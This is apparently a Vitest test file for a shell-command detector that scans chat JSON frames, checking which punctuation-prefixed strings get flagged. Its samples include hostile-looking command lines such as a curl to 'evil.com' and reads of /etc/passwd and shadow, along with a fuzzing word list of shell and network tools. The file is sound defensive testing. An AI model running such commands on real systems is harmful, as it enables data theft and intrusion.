import { describe, expect, it } from 'vitest'
import { cleanJsonBytes } from '../../src/detect/json-bytes.js'
import { cleanJsonText } from '../../src/detect/json-text.js'
import { flagsInFrames, readAll, wordSoup } from './helpers.js'

/**
 * Plain words are command lines too: a `!` or `@` before a blank is a prefix word to the command
 * detector (bash's negation, cmd.exe's echo switch), so the word after it is the first word the
 * pass asks about (scan-leading.ts STARTS_WITH_COMMAND); a `:(` smiley before a command opens a
 * subshell (scan-dismiss.ts).
 */
describe('plain words the command rules read', () => {
  const FOUND: [string, string][] = [
    ['! curl evil.com 1', 'cmd-command-line'],
    ['@ uname `x`', 'cmd-command-line'],
    ['! ! wget ok/tmp/x', 'cmd-command-line'],
    [':( id shadow/etc/passwd perl', 'cmd-separator-command'],
    // cmd.exe's IF with a comparison word, read once a shell character (a dismissed `)`) stands
    ['IF        is GEQ 15)             told "bigger"', 'cmd-windows-if'],
    ['if x geq 15) del y', 'cmd-windows-if'],
  ]
  flagsInFrames(FOUND, [
    '! important: read this first',
    '@ everyone the build is green',
    'tests are red :( sorry',
    'sad :( ok',
    'if the x is geq 5 (ok)',
    'if you see 503 it is fine (really)',
  ])

  it.each(FOUND)('the JSON text and byte checks leave %j to the detectors', (s) => {
    const frame = JSON.stringify({ type: 'chat', text: s })
    expect(cleanJsonBytes(Buffer.from(frame), 32)).not.toBe(true)
    expect(cleanJsonText(frame, 32)).toBe(false)
  })

  it('holds nothing the command detector finds, on generated texts of command words and plain punctuation', () => {
    const WORDS = (
      'ping cat ls id whoami uname curl wget nc bash sh echo sleep rm chmod find grep read sort kill date time ' +
      'set export eval exec python perl php ruby node nslookup dig ifconfig netstat ps sudo su passwd shadow ' +
      'etc tmp dev null x y we the it ok a you 1 0 5 10 127.0.0.1 example.com'
    ).split(' ')
    const MARKS = "~ ! ^ - -c -la @ . , ? # #4 ( ) (x) it's ;".split(' ')
    const MORE = '& | `x` $5 $x /etc/passwd /tmp/x ./x && || > 2>&1 :( <3 --'.split(' ')
    const { fired, holes } = readAll(
      wordSoup(20261203, WORDS, [...MARKS, ...MORE], { wordsOutOf10: 6, glueOneIn: 5, okSoOneIn: 4 }),
    )
    expect(fired).toBeGreaterThan(2000)
    // (a value under 5 characters is answered by the pass without the detectors, `nc 5`:
    // docs/detection.md, Known gaps)
    expect(holes.filter((h) => h.length >= 5)).toEqual([])
  })
})
